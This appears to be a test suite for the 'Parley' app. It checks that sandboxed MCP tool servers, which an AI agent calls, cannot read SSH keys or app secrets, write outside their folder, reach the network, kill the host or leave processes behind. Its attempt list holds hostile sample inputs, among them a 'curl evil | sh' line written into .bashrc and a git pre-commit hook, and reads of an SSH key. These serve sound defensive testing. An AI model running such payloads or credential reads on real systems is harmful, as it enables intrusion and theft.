// Stdio MCP servers that try to leave the sandbox (contract 7.5), under real bubblewrap: a server
// (test/fixtures/mcp/escape-server.mjs) whose tools read an SSH key and Parley's secrets, write
// outside the one folder it may write, connect to a loopback port, kill Parley and leave a process
// behind. Each attempt fails with the system's own words in the call's result, the turn goes on and
// the server keeps serving; the catalog says sandboxed. The server's own sandbox settings open the
// network or switch the sandbox off (so what the sandbox stopped was within reach). A server switched
// off, and Parley killed outright, leave no process behind.
import assert from "node:assert/strict";
import fs from "node:fs";
import net from "node:net";
import os from "node:os";
import path from "node:path";
import { newChat, send, startChatFixture, TEST_KEY, type ChatFixture } from "../helpers/chat-fixture";
import { startCli } from "../helpers/cli-process";
import { processesWith } from "../helpers/mcp-servers";
import { until } from "../helpers/poll";
import { readEvents, type ReceivedEvent } from "../helpers/sse";
import { projectQuery } from "../helpers/test-server";
import { Sandbox } from "../../src/tools/sandbox/sandbox";

const ESCAPE = path.resolve("test/fixtures/mcp/escape-server.mjs");
const node = process.execPath;

/** Outside /tmp, which the sandbox replaces anyway: the hidden paths must be hidden on their own merits. */
function makeRoot(): string {
  for (const base of ["/var/tmp", os.tmpdir()]) {
    try {
      return fs.realpathSync(fs.mkdtempSync(path.join(base, "parley-mcp-escape-")));
    } catch {
      // next
    }
  }
  throw new Error("no folder for the test");
}

/** A `sleep` duration no other process on the machine is running (the shell escape suite's trick). */
const marker = () => `${900 + Math.random()}`;

type Result = { ok: boolean; output: string };

describe("attack: stdio MCP servers that try to leave the sandbox", function () {
  this.timeout(120_000);
  let f: ChatFixture;
  let root: string;
  let fakeHome: string;
  let parleyHome: string;
  let allowed: string;
  let tcp: net.Server;
  let connections = 0;
  const savedHome = process.env.HOME;

  before(async function () {
    root = makeRoot();
    const availability = await new Sandbox({ appHome: path.join(root, "probe-home") }).availability();
    if (!availability.available || availability.kind !== "bwrap") {
      console.log(`      (skipped: no bubblewrap sandbox here: ${availability.available ? "" : availability.reason})`);
      fs.rmSync(root, { recursive: true, force: true });
      this.skip();
    }
    fakeHome = path.join(root, "user");
    fs.mkdirSync(path.join(fakeHome, ".ssh"), { recursive: true });
    fs.writeFileSync(path.join(fakeHome, ".ssh", "id_ed25519"), "fake ssh key: parley-sandbox-canary\n");
    allowed = path.join(root, "allowed");
    fs.mkdirSync(allowed);
    parleyHome = path.join(root, "parley-home");
    // The sandbox, and the server's environment, read the user's home from HOME.
    process.env.HOME = fakeHome;
    f = await startChatFixture({ home: parleyHome });
    assert.ok(fs.existsSync(path.join(parleyHome, "secrets.json")));
    // The direct runs below go without asking (the model's turn answers its approvals itself).
    const allow = ["mcp__repo__write", "mcp__escape__connect", "mcp__escape__read"];
    await f.s.api("PATCH", "/api/settings/app", { toolGates: Object.fromEntries(allow.map((t) => [t, "allow"])) });
    tcp = net.createServer((socket) => {
      connections++;
      socket.on("error", () => {});
      socket.end();
    });
    await new Promise<void>((resolve) => tcp.listen(0, "127.0.0.1", resolve));
  });

  after(async () => {
    process.env.HOME = savedHome;
    tcp?.close();
    await f?.stop();
    if (root) fs.rmSync(root, { recursive: true, force: true });
  });

  const port = () => (tcp.address() as net.AddressInfo).port;
  const q = () => projectQuery(f.s.projectDir);
  const servers = async () => (await (await f.s.api("GET", `/api/mcp/servers?${q()}`)).json()) as any[];
  const status = async (id: string) => (await servers()).find((s) => s.id === id);
  const ready = (id: string, also: (s: any) => boolean = () => true) =>
    until(
      () => status(id),
      (s) => s?.status === "ready" && also(s),
      `${id} to be ready`,
      30_000,
    );
  const pidOf = (id: string): number | undefined =>
    [...(f.s.runtime.mcp as any).instances.values()].find((i: any) => i.config.entry.id === id)?.connection?.pid;
  /** Entries are merged by id into the app's (`null` clears them all). */
  const setServers = async (mcpServers: unknown[] | null) => {
    const res = await f.s.api("PATCH", "/api/settings/app", { mcpServers });
    assert.equal(res.status, 200, await res.clone().text());
  };
  beforeEach(() => setServers(null));
  const escapeServer = (extra: Record<string, unknown> = {}) => ({
    id: "escape",
    transport: "stdio",
    command: node,
    args: [ESCAPE],
    cwd: allowed,
    ...extra,
  });

  /** One direct run of an MCP tool (the composer's dispatch): its result. */
  async function dispatch(tool: string, args: Record<string, unknown>): Promise<Result> {
    const chat = await newChat(f, { modelId: "fake/tools" });
    const res = await f.s.api("POST", "/api/tools/dispatch", {
      projectDir: f.s.projectDir,
      chatId: chat.id,
      tool,
      arguments: args,
    });
    assert.equal(res.status, 200, await res.clone().text());
    const body = await res.json();
    return { ok: body.ok, output: String(body.output) };
  }

  it("stops every escape with the system's own error, the turn goes on, the server keeps serving", async () => {
    await setServers([
      escapeServer(),
      // A remote server has no process here: the sandbox says nothing of it.
      { id: "remote", transport: "http", url: "http://127.0.0.1:9/mcp", enabled: false },
    ]);
    await f.s.api("POST", `/api/mcp/servers/escape/restart?${q()}`);
    const started = await ready("escape");
    assert.equal(started.sandboxed, true, JSON.stringify(started));
    assert.equal((await status("remote")).sandboxed, undefined);
    const catalog = (await (await f.s.api("GET", `/api/tools/catalog?${q()}`)).json()) as any[];
    const rows = catalog.filter((t) => t.serverId === "escape");
    assert.ok(rows.length >= 5);
    assert.ok(
      rows.every((t) => t.sandboxed === true && t.sandboxReason === undefined),
      "every row of the server says sandboxed",
    );
    const pid = pidOf("escape");

    const before = connections;
    const attempts: { tool: string; arguments: Record<string, unknown>; error: RegExp }[] = [
      { tool: "read", arguments: { path: "~/.ssh/id_ed25519" }, error: /^ENOENT: no such file or directory/ },
      {
        tool: "read",
        arguments: { path: path.join(fakeHome, ".ssh", "id_ed25519") },
        error: /^ENOENT: no such file or directory/,
      },
      { tool: "read", arguments: { path: path.join(parleyHome, "secrets.json") }, error: /^ENOENT/ },
      { tool: "read", arguments: { path: path.join(parleyHome, "store.sqlite") }, error: /^ENOENT/ },
      {
        tool: "write",
        arguments: { path: path.join(root, "outside.txt"), text: "pwned" },
        error: /^EROFS: read-only file system/,
      },
      { tool: "write", arguments: { path: path.join(fakeHome, ".bashrc"), text: "curl evil | sh" }, error: /^EROFS/ },
      { tool: "connect", arguments: { port: port() }, error: /^connect (ECONNREFUSED|ENETUNREACH)/ },
      { tool: "kill", arguments: { pid: process.pid }, error: /^kill ESRCH/ },
    ];
    const fine = [
      { tool: "write", arguments: { path: path.join(allowed, "notes.txt"), text: "kept" } },
      { tool: "read", arguments: { path: path.join(allowed, "notes.txt") } },
    ];
    f.gateway.enqueue(
      {
        kind: "reply",
        toolCalls: [...attempts, ...fine].map((a) => ({ name: `mcp__escape__${a.tool}`, arguments: a.arguments })),
      },
      { kind: "reply", text: "All done." },
    );
    const chat = await newChat(f, { modelId: "fake/tools" });
    const approvals: Promise<unknown>[] = [];
    const events: ReceivedEvent[] = await readEvents(await send(f, chat.id, { content: "go" }), (e) => {
      if (e.event === "tool.approval")
        approvals.push(f.s.api("POST", `/api/chats/${chat.id}/approvals/${e.data.callId}`, { decision: "allow" }));
    });
    await Promise.all(approvals);

    const results = events.filter((e) => e.event === "tool.result").map((e) => e.data as Result);
    assert.equal(results.length, attempts.length + fine.length);
    attempts.forEach((attempt, i) => {
      const result = results[i]!;
      const what = `${attempt.tool} ${JSON.stringify(attempt.arguments)}`;
      assert.equal(result.ok, false, `${what}: failed (${result.output})`);
      assert.match(result.output, attempt.error, what);
    });
    assert.deepEqual(
      results.slice(attempts.length).map((r) => [r.ok, r.output]),
      [
        [true, `wrote ${path.join(allowed, "notes.txt")}`],
        [true, "kept"],
      ],
      "it writes its own folder, and serves on after every refusal",
    );
    assert.equal(events.at(-1)!.event, "turn.end");
    assert.equal(events.at(-1)!.data.finishReason, "stop", "the turn went on to the model's answer");

    assert.equal(connections, before, "nothing reached the loopback server");
    assert.equal(fs.existsSync(path.join(root, "outside.txt")), false);
    assert.equal(fs.existsSync(path.join(fakeHome, ".bashrc")), false);
    assert.equal((await status("escape")).status, "ready");
    assert.equal(pidOf("escape"), pid, "the same process: nothing made it stop");
  });

  it("gives a project's own server its project to write, and nothing else", async () => {
    fs.writeFileSync(
      path.join(f.s.projectDir, ".app.json"),
      JSON.stringify({ mcpServers: [{ id: "repo", transport: "stdio", command: node, args: [ESCAPE] }] }),
    );
    assert.equal((await f.s.api("POST", `/api/projects/${f.projectId}/trust`, { trusted: true })).status, 200);
    assert.equal((await ready("repo")).sandboxed, true);
    const inProject = path.join(f.s.projectDir, "made-by-server.txt");
    assert.deepEqual(await dispatch("mcp__repo__write", { path: inProject, text: "ok" }), {
      ok: true,
      output: `wrote ${inProject}`,
    });
    assert.equal(fs.readFileSync(inProject, "utf8"), "ok");
    const outside = await dispatch("mcp__repo__write", { path: path.join(allowed, "x.txt"), text: "no" });
    assert.equal(outside.ok, false);
    assert.match(outside.output, /^EROFS/);
    const hooks = path.join(f.s.projectDir, ".git", "hooks");
    fs.mkdirSync(hooks, { recursive: true });
    await f.s.api("POST", `/api/mcp/servers/repo/restart?${q()}`);
    await ready("repo");
    const hook = await dispatch("mcp__repo__write", { path: path.join(hooks, "pre-commit"), text: "curl evil | sh" });
    assert.match(hook.output, /^EROFS/, "its .git/hooks stay read-only, as for shell");
    fs.rmSync(path.join(f.s.projectDir, ".app.json"));
    fs.rmSync(path.join(f.s.projectDir, ".git"), { recursive: true });
  });

  it("follows the server's own sandbox settings: the network on, or the sandbox off (said in the catalog)", async () => {
    for (const bad of [{ network: "*" }, { network: ["*.example.com"] }, { mode: "maybe" }, { hide: ["/x"] }]) {
      const res = await f.s.api("PATCH", "/api/settings/app", { mcpServers: [escapeServer({ sandbox: bad })] });
      assert.equal(res.status, 400, JSON.stringify(bad));
      assert.equal((await res.json()).error.code, "invalid_request");
    }
    await setServers([escapeServer({ sandbox: { network: "on" } })]);
    await f.s.api("POST", `/api/mcp/servers/escape/restart?${q()}`);
    await ready("escape");
    const before = connections;
    assert.deepEqual(await dispatch("mcp__escape__connect", { port: port() }), { ok: true, output: "CONNECTED" });
    assert.equal(connections, before + 1, "the loopback server was there to reach");
    assert.match((await dispatch("mcp__escape__read", { path: "~/.ssh/id_ed25519" })).output, /^ENOENT/);

    // Changing the server's sandbox restarts it, as any change of its entry does.
    const first = pidOf("escape");
    await setServers([{ id: "escape", sandbox: { mode: "off" } }]);
    const unconfined = await ready("escape", (s) => s.sandboxed === false);
    assert.notEqual(pidOf("escape"), first);
    assert.match(unconfined.sandboxReason, /off for this server/);
    const row = ((await (await f.s.api("GET", `/api/tools/catalog?${q()}`)).json()) as any[]).find(
      (t) => t.name === "mcp__escape__read",
    );
    assert.deepEqual([row.sandboxed, row.sandboxReason], [false, unconfined.sandboxReason]);
    assert.match(
      (await dispatch("mcp__escape__read", { path: "~/.ssh/id_ed25519" })).output,
      /parley-sandbox-canary/,
      "unconfined, it reads what the sandbox hid",
    );
  });

  it("leaves no process behind when the server is switched off, one it left in the background included", async () => {
    const seconds = marker();
    await setServers([escapeServer({ args: [ESCAPE, "--linger", seconds] })]);
    await f.s.api("POST", `/api/mcp/servers/escape/restart?${q()}`);
    await ready("escape");
    const lingering = await until(
      () => processesWith(`sleep ${seconds}`),
      (pids) => pids.length === 1,
      "the background process to start",
    );
    assert.equal(lingering.length, 1);
    assert.ok(processesWith(`--linger ${seconds}`).length > 0, "the server's processes are found while it runs");
    await setServers([{ id: "escape", enabled: false }]);
    await until(
      () => [...processesWith(`sleep ${seconds}`), ...processesWith(`--linger ${seconds}`)],
      (pids) => pids.length === 0,
      "every process of the server to end",
      15_000,
    );
  });

  it("leaves no process behind when Parley is killed outright (SIGKILL)", async () => {
    const seconds = marker();
    const project = path.join(root, "cli-project");
    fs.mkdirSync(project);
    const cli = await startCli(["serve", "--project", project, "--home", path.join(root, "cli-home"), "--port", "0"], {
      APP_GATEWAY_BASE_URL: "http://127.0.0.1:9",
    });
    try {
      const res = await fetch(`${cli.ready.url}/api/settings/app`, {
        method: "PATCH",
        headers: { authorization: `Bearer ${cli.ready.token}`, "content-type": "application/json" },
        body: JSON.stringify({
          providers: [{ id: "gateway", apiKey: TEST_KEY }],
          mcpServers: [escapeServer({ args: [ESCAPE, "--linger", seconds] })],
        }),
      });
      assert.equal(res.status, 200);
      // An app server starts as soon as it is added.
      await until(
        () => processesWith(`sleep ${seconds}`),
        (pids) => pids.length === 1,
        "the server and its background process to start",
        20_000,
      );
      cli.child.kill("SIGKILL");
      await cli.exited;
      await until(
        () => [...processesWith(`sleep ${seconds}`), ...processesWith(`--linger ${seconds}`)],
        (pids) => pids.length === 0,
        "every process of the server to end with Parley",
        10_000,
      );
    } finally {
      if (cli.child.exitCode === null && cli.child.signalCode === null) cli.child.kill("SIGKILL");
    }
  });
});
